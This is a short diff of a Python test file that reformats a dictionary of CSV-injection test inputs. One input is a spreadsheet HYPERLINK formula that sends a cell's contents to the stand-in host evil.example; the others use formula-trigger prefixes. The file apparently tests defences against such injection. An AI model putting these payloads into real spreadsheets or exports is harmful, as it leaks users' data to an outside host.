@@ -66,8 +66,9 @@ def test_a_file_named_on_the_command_line_is_read_whatever_its_suffix(tmp_path: 
 
 # --- CSV injection -----------------------------------------------------------------------------
 
-HOSTILE = {"action": '=HYPERLINK("http://evil.example/?"&A1,"Recruit independent officers")', "progress": "+1+2",
-           "lead": "@SUM(A1:A9)", "theme": "-2+3", "outcome": "\tnote", "evidence": "\rnote"}
+HOSTILE = {"action": '=HYPERLINK("http://evil.example/?"&A1,"Recruit independent officers")',
+           "progress": "+1+2", "lead": "@SUM(A1:A9)", "theme": "-2+3", "outcome": "\tnote",
+           "evidence": "\rnote"}
 
 
 @pytest.fixture
